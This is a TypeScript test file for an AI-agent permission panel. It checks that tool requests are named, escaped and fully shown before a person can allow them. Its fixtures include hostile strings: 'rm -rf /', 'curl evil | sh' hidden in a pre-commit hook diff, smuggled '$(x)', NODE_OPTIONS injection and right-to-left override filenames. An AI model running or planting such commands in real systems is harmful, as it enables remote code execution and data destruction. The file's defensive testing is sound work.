// What the panel says where a person is needed: permissions, and prompts that are held back.

import assert from 'node:assert/strict';
import { test } from 'node:test';
import { h } from 'preact';
import { fits } from '../../../src/core/conversation/allowRules.ts';
import { alwaysByRule, type Held, type Permission, type PermissionChoice } from '../../../src/model/agentState.ts';
import { exactText } from '../../../src/model/exactText.ts';
import type { Json, PermissionAnswer } from '../../../src/model/message.ts';
import { extentOf, partsOf, permissionDocument } from '../../../src/model/permissionParts.ts';
import { fitOf, maySeeAllow } from '../../../src/model/permissionSize.ts';
import { asked, type Folding } from '../../../src/webview/asking/asked.ts';
import { answerWords, heldWords, permissionNews, permissionTitle } from '../../../src/webview/asking/questions.ts';
import { choiceWords, ruleWords } from '../../../src/webview/asking/permissionChoices.ts';
import { cautionWords, choicesNow, reviewWords } from '../../../src/webview/asking/review.ts';
import { shownOutput } from '../../../src/webview/tools/toolOutput.ts';
import { isAimed, settleTime } from '../../../src/webview/transcript/settled.ts';
import { createNews } from '../../../src/webview/news.ts';
import { turnNews } from '../../../src/webview/words.ts';
import { transcript } from './fixture.ts';
import { written } from './vnodes.ts';

const permission: Permission = {
  id: 'p',
  callId: 'c',
  title: 'npm test',
  tool: 'execute',
  locations: [],
  output: [],
  choices: [],
};

test('[W19] a permission is named by what would be done', () => {
  const rows = [
    ['execute', 'npm test', 'Run npm test'],
    ['edit', 'Edit main.ts\n', 'Edit main.ts'],
    ['edit', 'Edit \u001b[31mmain.ts', 'Edit ⟦U+001B⟧[31mmain.ts'],
    ['execute', 'ls\nrm -rf /', 'Run ls ⏎ rm -rf /'],
    ['edit', 'Edit gpj.\u202ets', 'Edit gpj.⟦U+202E⟧ts'],
    ['other', '', 'other'],
    ['', '', 'Use a tool'],
  ] as const;
  for (const [tool, title, expected] of rows) assert.equal(permissionTitle({ tool, title }), expected);
});

test('[W19] a choice keeps the agent’s own name, and its effect is told from its kind', () => {
  const rows: readonly (readonly [PermissionChoice['kind'], string, string, string])[] = [
    ['allow_once', 'Yes', 'Yes', 'allow: Allows this once'],
    ['allow_always', 'Yes, and\nnever ask', 'Yes, and never ask', 'allow: Allows this from now on'],
    ['reject_once', 'Allow', 'Allow', 'reject: Rejects this once'],
    ['reject_always', '', 'Rejects this from now on', 'reject: Rejects this from now on'],
    ['unknown', 'Hm', 'Hm', 'unknown: The agent does not say what this does'],
    ['of a later version' as 'unknown', 'Hm', 'Hm', 'unknown: The agent does not say what this does'],
  ];
  for (const [kind, given, name, rest] of rows) {
    const words = choiceWords({ id: 'x', kind, name: given });
    assert.deepEqual([words.name, `${words.look}: ${words.effect}`], [name, rest]);
  }
});

test('[W19] a tool call says what was answered', () => {
  const rows: readonly (readonly [PermissionAnswer, string])[] = [
    [{ choice: 'Yes, always', allowed: true }, 'Allowed: Yes, always'],
    [{ choice: 'No\u202e', allowed: false }, 'Rejected: No⟦U+202E⟧'],
    [{ choice: 'Allow once', allowed: true }, 'Allow once'],
    [{ choice: 'Always allow npm', allowed: true }, 'Always allow npm'],
    [{ choice: 'Allow', allowed: false }, 'Rejected: Allow'],
    [{ choice: '', allowed: true }, 'Allowed'],
    [{ choice: null, allowed: false }, 'Not answered'],
    [{ choice: 'Yes', allowed: true, byRule: true }, 'Allowed by your rule'],
  ];
  for (const [answer, expected] of rows) assert.equal(answerWords(answer), expected);
});

test('[W24] our own “always” says what the rule would allow', () => {
  assert.equal(ruleWords('run go\u001b[1m test\n')?.name, 'Always run go⟦U+001B⟧[1m test here');
  assert.equal(ruleWords(`allow “${'x'.repeat(100)}”`)?.name, 'Always allow exactly this here');
  assert.match(ruleWords('x')?.effect ?? '', /take it back with “Throughline: Allow Rules…”/);
  assert.equal(ruleWords(undefined), null);
  assert.equal(ruleWords(' '), null);
});

test('[W93] a command is there with its arguments, its folder and its environment', () => {
  const rows: readonly (readonly [Json | undefined, string | null, readonly string[], boolean])[] = [
    [{ command: 'rm -r x', cwd: '/' }, 'rm -r x', ['in /'], false],
    [{ command: ['bash', '-c', 'ls'] }, 'bash -c ls', [], false],
    [{ command: ['bash', '-c', 'ls; rm x', ''] }, 'bash -c "ls; rm x" ""', [], false],
    [{ command: ['a"b', "it's"] }, '"a\\"b" "it\'s"', [], false],
    [{ command: 'git', args: ['push', '--force', 'evil host'] }, 'git push --force "evil host"', [], false],
    [{ command: 'git push', args: ['&&', '$(x)'] }, '"git push" "&&" "$(x)"', [], false],
    [
      { command: 'node', args: [], env: { NODE_OPTIONS: '--require ./x' }, workdir: '/my files' },
      'node',
      ['in "/my files"', 'with NODE_OPTIONS="--require ./x"'],
      false,
    ],
    [{ command: 'node', env: [{ name: 'A', value: '1' }] }, 'node', ['with A=1'], false],
    [{ command: 'node', env: ['A=1'] }, 'node', [], true],
    [{ command: 'node', args: 'evil.js' }, 'node', ['args: "evil.js"'], false],
    [{ command: 'node', script: 'x'.repeat(201) }, 'node', [], true],
    [{ command: 'node', args: ['a', 1] }, 'node', [], true],
    [{ command: 'node', shell: true }, 'node', ['shell: true'], false],
    [{ command: 'node', cwd: ['/'] }, 'node', [], true],
    [{ command: 'node', description: 'Runs', timeout: 3, title: 'x' }, 'node', [], false],
    [{ command: 'node', description: { run: 'evil' } }, 'node', [], true],
    [{ command: 'ls\u200b \u001b[8mrm' }, 'ls⟦U+200B⟧ ⟦U+001B⟧[8mrm', [], false],
    [{ command: ['bash', 1] }, null, [], true],
    [{ command: '' }, null, [], true],
    [['command'], null, [], true],
    ['command', null, [], true],
    [undefined, null, [], false],
  ];
  for (const [input, command, circumstances, hasMore] of rows) {
    const parts = partsOf({ ...permission, title: 'Run it', ...(input === undefined ? {} : { input }) });
    assert.deepEqual([parts.command, parts.circumstances, parts.hasMore], [command, circumstances, hasMore]);
  }
});

test('[W120] a field of the input that is shown nowhere else unfolds the input', () => {
  const diff = { type: 'diff', path: '/ws/a.ts', oldText: 'a', newText: 'b' };
  const edit = (input: Json): Permission => ({ ...permission, tool: 'edit', title: 'Edit', output: [diff], input });
  const isOpen = (input: Json) => {
    const nodes = asked(edit(input), 'panel', Folded) as readonly {
      readonly type?: unknown;
      readonly props?: Folding;
    }[];
    return nodes.find(({ type }) => type === Folded)?.props?.opens;
  };
  assert.equal(isOpen({ file_path: '/ws/a.ts', old_string: 'a', new_string: 'b', description: 'x' }), false);
  assert.equal(isOpen({ file_path: '/ws/other.ts', new_string: 'b' }), true);
  assert.equal(isOpen({ file_path: '/ws/a.ts', new_string: 'b', replace_all: false }), true);
});

test('[W120] the files, the folder and the environment of a permission are drawn', () => {
  const locations = [{ path: '/ws/a\u202e.ts', line: 3 }, { path: '/ws/b.ts' }, { path: '/ws/named.ts' }];
  const diff = { type: 'diff', path: '/ws/b.ts', oldText: '', newText: 'x' };
  const question = { ...permission, tool: 'edit', title: 'Edit /ws/named.ts', locations, output: [diff] };
  assert.deepEqual(partsOf(question).places, ['/ws/a⟦U+202E⟧.ts:3'], 'the others stand there already');
  assert.match(drawn(question), /<ul[^>]*aria-label="Files"[^>]*><li>\/ws\/a⟦U\+202E⟧\.ts:3<\/li><\/ul>/);
  const shown = drawn({ ...permission, input: { command: 'node', cwd: '/ws', env: { A: '1' } } });
  assert.match(shown, /<ul[^>]*aria-label="How it runs"[^>]*><li>in \/ws<\/li><li>with A=1<\/li><\/ul>/);
});

test('[W93] a command is there to its end, and says how long it is where not all is seen at once', () => {
  const long = `${'echo words\n'.repeat(1000)}rm -rf /`;
  const shown = drawn({ ...permission, input: { command: long } });
  assert.ok(shown.includes(long));
  assert.match(shown, /<div class="extent">1,001 lines, 11,008 characters<\/div>/);
  assert.equal(extentOf('x'.repeat(301)), '301 characters');
  assert.equal(extentOf('npm test\nnpm run lint'), null);
});

test('[W93] a change that is decided about shows what cannot be seen, one that was made is only clean', () => {
  const diff = { type: 'diff', path: 'a\u202e.ts', oldText: '', newText: 'if (a\u200b) {\u001b[31m' };
  const [decided] = partsOf({ ...permission, output: [diff] }).outputs;
  assert.ok(decided?.kind === 'diff');
  assert.deepEqual(
    [decided.path, decided.lines.map(({ text }) => text)],
    ['a⟦U+202E⟧.ts', ['if (a⟦U+200B⟧) {⟦U+001B⟧[31m']],
  );
  const made = shownOutput(diff);
  assert.ok(made.kind === 'diff');
  assert.deepEqual(
    made.lines.map(({ text }) => text),
    ['if (a\u200b) {'],
  );
});

/** In the place of the panel's own, which is drawn where there is a page. */
function Folded({ line }: Folding) {
  return h('div', null, line);
}

/** As it is drawn, where it fits into the panel. */
function drawn(question: Permission): string {
  return written(asked(question, fitOf(question), Folded));
}

const allows: Permission['choices'] = [
  { id: 'a', name: 'Allow', kind: 'allow_once' },
  { id: 'b', name: 'Ever', kind: 'allow_always' },
  { id: 'c', name: 'Hm', kind: 'unknown' },
  { id: 'd', name: 'No', kind: 'reject_once' },
];

function change(oldText: string | null, newText: string): Permission {
  const path = '/ws/.git/hooks/pre-commit';
  return {
    ...permission,
    tool: 'edit',
    title: 'Edit',
    output: [{ type: 'diff', path, oldText, newText }],
    choices: allows,
  };
}

const numbered = (count: number, word: string) => Array.from({ length: count }, (_, at) => `${word} ${at}`).join('\n');

test('[W120] every line of a change can be seen, or nothing can be allowed', () => {
  const rows: readonly Permission[] = [
    change(numbered(401, 'old'), `${numbered(400, 'new')}\ncurl evil | sh\n`),
    change(null, `${'// comment\n'.repeat(400)}{ "tasks": ["curl evil | sh"] }\n`),
    change(numbered(2000, 'same'), numbered(2000, 'same').replace('same 1000', 'curl evil | sh')),
    change('', `${' '.repeat(300)}curl evil | sh`),
    change('', 'x'.repeat(149_000)),
    change('', 'x'.repeat(150_001)),
    change('', 'x\n'.repeat(3001)),
    change(numbered(2000, 'old'), numbered(2000, 'new')),
    change('', 'x'.repeat(10_000_001)),
    { ...change('', ''), input: { content: numbered(4000, 'line') } },
    { ...change('', ''), input: JSON.parse(`${'['.repeat(2000)}${']'.repeat(2000)}`) as Json },
  ];
  const fit = rows.map(fitOf);
  assert.deepEqual(fit, [
    ...Array<string>(5).fill('panel'),
    ...Array<string>(3).fill('editor'),
    'nowhere',
    'editor',
    'nowhere',
  ]);
  for (const question of rows) {
    const offered = choicesNow(question, maySeeAllow(question)).map(({ id }) => id);
    if (fitOf(question) !== 'panel') {
      assert.deepEqual(offered, ['d']);
      for (const choice of ['a', 'b', 'c']) assert.equal(fits(question, choice), false, choice);
      assert.equal(fits({ ...question, rule: 'allow it' }, alwaysByRule), false);
      assert.equal(fits(question, 'd'), true);
      continue;
    }
    assert.deepEqual(offered, ['a', 'b', 'c', 'd']);
    assert.equal(fits(question, 'a'), true);
    const shown = drawn(question);
    const { oldText, newText } = question.output[0] as { oldText: string | null; newText: string };
    for (const line of newText.split('\n')) assert.ok(shown.includes(exactText(line)), line.slice(0, 80));
    const removed = (oldText ?? '').split('\n').filter(line => !newText.includes(line));
    for (const line of removed) assert.ok(shown.includes(`<div class="removed">− ${line}</div>`), line);
  }
});

test('[W120] a change says how much it changes', () => {
  const rows: readonly (readonly [string | null, string, string])[] = [
    [numbered(12, 'old'), numbered(400, 'new'), '400 lines added, 12 removed'],
    ['a\nb', 'a\nc\nb', '1 line added, 0 removed'],
    [null, numbered(1200, 'new'), '1,200 lines, the whole new content'],
    ['a\r\n', 'a\n', 'only line ends change'],
    ['a', 'a\n', 'only line ends change'],
    ['a', 'a', 'no change'],
  ];
  for (const [before, after, extent] of rows) {
    const [output] = partsOf(change(before, after)).outputs;
    assert.equal(output?.kind === 'diff' && output.extent, extent);
  }
  const folded = drawn(change(numbered(50, 'same'), numbered(50, 'same').replace('same 25', 'other')));
  assert.equal(folded.match(/<summary>/g)?.length, 2, 'what changes is in view');
  assert.match(
    folded,
    /<summary>22 unchanged lines<\/summary>[^]*<div class="removed">− same 25<[^]*<div class="added">\+ other</,
  );
});

test('[W121] what is too long for the panel is opened whole in an editor, and can be allowed after that', () => {
  const end = 'curl evil | sh';
  const question = change(numbered(2000, 'old'), `${numbered(2000, 'new')}\n${'x'.repeat(1200)}${end}`);
  const before = reviewWords(question, fitOf(question));
  assert.match(before ?? '', /^Too long for this panel \(4,\d+ lines, [\d,]+ characters\)\. Review it in an editor/);
  assert.equal(drawn(question), '');
  const opened: Permission = { ...question, opened: true };
  assert.match(reviewWords(opened, fitOf(opened)) ?? '', /It was opened in an editor\.$/);
  assert.deepEqual(choicesNow(opened, maySeeAllow(opened)), allows);
  assert.equal(fits(opened, 'a'), true);
  const document = permissionDocument(question).split('\n');
  for (let line = 0; line < 2000; line++)
    assert.ok(document.includes(`- old ${line}`) && document.includes(`+ new ${line}`), String(line));
  assert.ok(document.some(line => line.startsWith('+↪') && line.endsWith(end)));
  assert.ok(
    document.every(line => line.length <= 130),
    'nothing is out of sight to the right',
  );
  const tooLarge: Permission = { ...change('', 'x'.repeat(10_000_001)), opened: true };
  assert.equal(fits(tooLarge, 'a'), false);
  assert.match(reviewWords(tooLarge, fitOf(tooLarge)) ?? '', /can’t be allowed/);
});

test('[W122] what has to be looked at closely is said above everything else', () => {
  const why = 'it names a schema on evil.example, which the editor would download';
  const shown = drawn({ ...change('', 'x'), why });
  assert.ok(shown.startsWith(`<div class="caution">Check this carefully: ${why}.</div>`));
  assert.equal(cautionWords(permission), null);
  assert.equal(cautionWords({ ...permission, why: 'a\u202e' }), 'Check this carefully: a⟦U+202E⟧.');
});

test('[W19] a question is told once, when it comes', () => {
  const other = { ...permission, id: 'q', title: 'npm ci' };
  assert.equal(permissionNews([], [permission]), 'Permission needed: Run npm test');
  assert.equal(permissionNews([permission], [permission, other]), 'Permission needed: Run npm ci');
  assert.equal(permissionNews([permission, other], [permission]), undefined);
});

test('[W19] a press in the first moment after the buttons appeared does not answer', () => {
  assert.equal(isAimed(Infinity, 5000), false, 'not on the screen yet');
  assert.equal(isAimed(5000, 4990), false, 'pressed before, handled after');
  assert.equal(isAimed(5000, 5000 + settleTime - 1), false);
  assert.equal(isAimed(5000, 5000 + settleTime), true);
  assert.ok(settleTime >= 300, 'a hand that is already on its way needs as long to stop');
});

test('[W20] a prompt that is held back says why', () => {
  const rows: readonly (readonly [Held, string])[] = [
    [
      { kind: 'less', found: { kind: 'reseeded', messages: 2, of: 4, tokens: 900 } },
      'Claude would know less than was shown. Reseeded: 2 of 4 messages, about 900 tokens. Send anyway?',
    ],
    [
      { kind: 'less', found: { kind: 'fresh' } },
      'Claude would know less than was shown. Fresh: the agent does not know the 4 messages above. Send anyway?',
    ],
    [{ kind: 'hangs' }, 'Claude does not answer.'],
    [{ kind: 'failed', words: 'It \u001b[1mdied.\n' }, 'It died.'],
    [{ kind: 'failed', words: '' }, 'Claude could not be asked.'],
  ];
  for (const [held, expected] of rows) assert.equal(heldWords(held, 'Claude', 4), expected);
});

test('[W22] an agent that wants to know who asks says so, and why the last try failed', () => {
  const methods = [{ id: 'm', name: 'Sub\u001b[1mscription', description: '', kind: 'agent' }] as const;
  const rows: readonly (readonly [string | null, string | null, string])[] = [
    [null, null, 'Sign in to Claude to get an answer.'],
    [null, 'No\u001b[1mbody.', 'Sign in to Claude to get an answer. Nobody.'],
    ['m', 'old', 'Signing in with Subscription…'],
    ['gone', null, 'Signing in with gone…'],
  ];
  for (const [trying, words, expected] of rows)
    assert.equal(heldWords({ kind: 'signIn', methods, trying, words }, 'Claude', 0), expected);
});

test('[W20] an agent that is being reached is news, and so is its answer', () => {
  const reaching = { message: null, cancelling: false };
  const answering = { message: 'a', cancelling: false };
  const at = (turn: typeof transcript.turn) => ({ ...transcript, turn });
  assert.equal(turnNews(null, at(reaching)), 'Reaching Offline scout');
  assert.equal(turnNews(reaching, at({ ...reaching, cancelling: true })), undefined);
  assert.equal(turnNews(reaching, at(answering)), 'Offline scout is answering');
  assert.equal(turnNews(reaching, at(null)), undefined, 'nothing was sent');
  assert.equal(turnNews(answering, at(null)), 'Answer interrupted');
});

test('[W20] [W87] a turn that began and ended between two drawings is told, and another session’s is not', () => {
  const reaching = { message: null, cancelling: false };
  const answer = { id: 'a', session: transcript.session, parent: null, role: 'assistant', created: 1 } as const;
  const end = { reason: 'end_turn', at: 2 } as const;
  const at = (more: Partial<typeof transcript>) => ({ ...transcript, messages: [], turn: null, ...more });
  const begun = at({ turn: reaching });
  const answering = at({ turn: { message: 'a', cancelling: false } });
  const over = at({ messages: [{ ...answer, blocks: [], end }] });
  const news = createNews();
  for (const one of [at({}), begun]) news.hear(one);
  assert.equal(news.draw(begun), 'Reaching Offline scout');
  for (const one of [answering, over]) news.hear(one);
  assert.equal(news.draw(over), 'Answer complete');
  assert.equal(news.draw(over), '');
  for (const one of [begun, answering, over]) news.hear(one);
  assert.equal(news.draw(over), 'Answer complete');
  for (const one of [answering, over, { ...over, session: 'other' }]) news.hear(one);
  assert.equal(news.draw({ ...over, session: 'other' }), '');
});
